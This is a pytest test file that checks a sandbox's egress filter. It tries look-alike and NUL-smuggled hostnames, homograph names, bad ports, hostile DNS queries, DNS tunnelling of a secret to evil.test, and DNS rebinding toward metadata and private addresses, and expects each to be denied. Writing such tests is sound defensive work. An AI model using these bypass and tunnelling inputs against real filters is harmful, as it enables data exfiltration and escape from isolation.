"""A rule lets through the name that it says, and nothing that looks like it; names carry nothing out."""

from __future__ import annotations

import ast
import json
import secrets

import pytest
from attacks.egress.conftest import Raid
from support.egress_attack import Try, tried
from world import places
from world.world import World

from skerry import Sandbox

NUL = "\0"
LOOKALIKES = {
    "a suffix": "api.example.test.evil.test",
    "a prefix": "evil-api.example.test",
    "a prefix without a dot": "xfiles.example.test",
    "the parent of a wildcard": "files.example.test",
    "two hosts": "evil.test#api.example.test",
    "a user": "api.example.test@evil.test",
    "a denied host below a wildcard": "denied.files.example.test",
    "a denied host in capitals": "DENIED.files.example.test",
    "a denied host with a dot": "denied.files.example.test.",
    "cyrillic": "аpi.example.test",
    "cyrillic in punycode": "xn--pi-6kc.example.test",
    "ideographic full stop": "evil。test",
    "an underscore": "api_.example.test",
    "a space": "api.example.test evil.test",
    "a percent": "api.example.test%2eevil.test",
    "an empty label": "evil..api.example.test",
    "a leading dot": ".api.example.test",
    "an unrelated name": "evil.test",
    "a name of the host's own network": "localhost.localdomain",
}
NULS = {
    "after the allowed name": f"api.example.test{NUL}.evil.test",
    "before the allowed name": f"evil.test{NUL}.api.example.test",
    "inside a wildcard": f"evil.test{NUL}.files.example.test",
}
BY_NAME = {
    **{f"get: {what}": Try("get", [name]) for what, name in LOOKALIKES.items()},
    **{f"tls: {what}": Try("get_tls", [name]) for what, name in LOOKALIKES.items() if name.isascii()},
    **{
        f"connect: {what}": Try("connect", [f"{name}:80", "api.example.test"])
        for what, name in (LOOKALIKES | NULS).items()
        if name.isascii()
    },
    **{
        f"absolute: {what}": Try("absolute", [f"http://{name}/", name])
        for what, name in (LOOKALIKES | NULS).items()
        if name.isascii()
    },
    "connect: a bad port": Try("connect", ["api.example.test:443evil", "api.example.test"]),
    "connect: a port of its own idea": Try("connect", ["api.example.test:22", "api.example.test"]),
    "connect: a negative port": Try("connect", ["api.example.test:-1", "api.example.test"]),
    "connect: a port over 65535": Try("connect", ["api.example.test:65616", "api.example.test"]),
    "connect: two ports": Try("connect", ["evil.test:80:80", "api.example.test"]),
    "get: another port of an allowed host": Try("get", ["api.example.test", 9999]),
}
QUESTIONS = {
    **{f"udp: {what}": Try("dns", {"labels": labels, "tcp": False})
       for what, labels in {
           "NUL before": ["evil.test\0", "api", "example", "test"],
           "NUL inside": ["evil\0", "api", "example", "test"],
           "a dot in a label": ["api.example", "test"],
           "a dot in a label of a wildcard": ["evil.test", "files", "example", "test"],
           "a space": ["evil ", "files", "example", "test"],
           "an upper half": ["\xe1pi", "example", "test"],
           "nothing": [],
           "a look-alike": ["xn--pi-6kc", "example", "test"],
           "refused": ["evil", "test"],
       }.items()},
    "tcp: refused": Try("dns", {"labels": ["evil", "test"], "tcp": True}),
    "tcp: to another server": Try("dns", {"labels": ["evil", "test"], "tcp": True, "server": places.RESOLVER}),
    "udp: to another server": Try("dns", {"labels": ["evil", "test"], "server": places.RESOLVER}),
    "udp: to a server of its own": Try("dns", {"labels": ["evil", "test"], "server": places.EVIL}),
    "tcp: to a server of its own": Try("dns", {"labels": ["evil", "test"], "server": places.EVIL, "tcp": True}),
    **{f"udp: {what} of an allowed name": Try("dns", {"labels": ["api", "example", "test"], "kind": kind})
       for what, kind in {"AAAA": 28, "HTTPS": 65, "SVCB": 64, "TXT": 16, "MX": 15, "NS": 2, "AXFR": 252,
                          "PTR": 12, "NULL": 10}.items()},
}  # fmt: skip


@pytest.mark.parametrize("name", BY_NAME)
def test_lookalikes_of_an_allowed_name_are_denied(raid: Raid, guest: Sandbox, name: str) -> None:
    raid(BY_NAME, guest).failed(name, BY_NAME[name])


@pytest.mark.parametrize("name", QUESTIONS)
def test_hostile_dns_query_gets_no_answer(raid: Raid, guest: Sandbox, name: str) -> None:
    raid(QUESTIONS, guest).failed(name, QUESTIONS[name])


def test_denied_names_are_never_resolved_outside(raid: Raid, guest: Sandbox) -> None:
    for batch in (BY_NAME, QUESTIONS):
        assert set(raid(batch, guest).asked) <= {"api.example.test"}


def test_trailing_dot_and_capitals_change_nothing(world: World, guest: Sandbox) -> None:
    batch = {
        "dot": Try("get", ["api.example.test.", 80, "/", "api.example.test"]),
        "dot in Host": Try("get", ["api.example.test", 80, "/", "api.example.test."]),
        "capitals": Try("get", ["API.Example.TEST"]),
        "capitals by TLS": Try("get_tls", {"host": "API.Example.TEST"}),
        "capitals by CONNECT": Try("connect", ["API.Example.TEST:80", "api.EXAMPLE.test"]),
        "below a wildcard": Try("get", ["A.b.FILES.example.test"]),
    }
    seen = tried(world, guest, batch)
    assert {name: outcome for name, outcome in seen.outcomes.items() if outcome.gained is None} == {}
    assert seen.strays == []


def test_dns_tunnel_is_blocked(world: World, guest: Sandbox) -> None:
    """Not even below an allowed wildcard: the answer is a fake IP, and nothing is resolved before a connection."""
    secret = secrets.token_hex(20)
    batch = {
        f"{zone} {kind}": Try("dns", {"labels": [secret, *zone.split(".")], "kind": kind})
        for zone in ("evil.test", "files.example.test", "api.example.test")
        for kind in (1, 16, 28, 5, 10, 255)
    }
    seen = tried(world, guest, batch)
    assert seen.asked == {}
    assert seen.strays == []
    for name, outcome in seen.outcomes.items():
        assert (outcome.gained is not None) == (name in ("files.example.test 1", "files.example.test 255")), (
            name,
            outcome,
        )


def test_control_dns_tunnel_works_without_isolation(world: World) -> None:
    world.reset()
    world.run("getent", "ahostsv4", "a-secret.evil.test", check=True)
    assert "a-secret.evil.test" in world.asked()


def test_dns_rebinding_reaches_no_other_address(world: World, guest: Sandbox) -> None:
    """Rebinding: the checked address is the dialled one, even if the name changes a moment later."""
    turns = [[places.API], [places.METADATA], [places.API], ["127.0.0.1"], [places.API, places.PRIVATE]] * 4
    world.teach("turncoat.example.test", *turns)
    batch = {f"turn {n}": Try("get", ["turncoat.example.test"]) for n in range(40)}
    seen = tried(world, guest, batch)
    assert seen.strays == []
    assert seen.asked.keys() == {"turncoat.example.test"}
    assert all(outcome.gained is None or places.API in outcome.gained for outcome in seen.outcomes.values())


def test_names_are_not_resolved_in_search_domains_of_the_host(world: World, guest: Sandbox) -> None:
    """`corp.test` is searched on the host: a missing name that a rule allows must not become another one below it."""
    name = "turncoat.example.test"
    world.teach(name, [])
    world.teach(f"{name}.corp.test", [places.API])
    seen = tried(world, guest, {"get": Try("get", [name])})
    assert seen.asked.keys() == {name}
    assert seen.outcomes["get"].gained is None
    world.reset()
    world.run("getent", "ahostsv4", name, check=True)  # the control: the host itself does search there
    assert f"{name}.corp.test" in world.asked()


@pytest.mark.soak
def test_ten_thousand_rebinding_attempts_fail(world: World, guest: Sandbox) -> None:
    closed = [[places.METADATA], ["127.0.0.1"], [places.PRIVATE], [places.HOST_SIDE], ["0.0.0.0"]]
    world.teach("turncoat.example.test", *(turn for other in closed * 2000 for turn in ([places.API], other)))
    for _ in range(10):
        batch = {f"{n}": Try("many", ["get", 125, ["turncoat.example.test"]]) for n in range(8)}
        seen = tried(world, guest, batch, timeout=110)
        assert seen.strays == []
        ends = [json.loads(ast.literal_eval(str(outcome.gained))) for outcome in seen.outcomes.values()]
        assert sum(count for end in ends for count in end.values()) == 1000
        assert sum(end.get("gained", 0) for end in ends) in range(1, 1000), ends
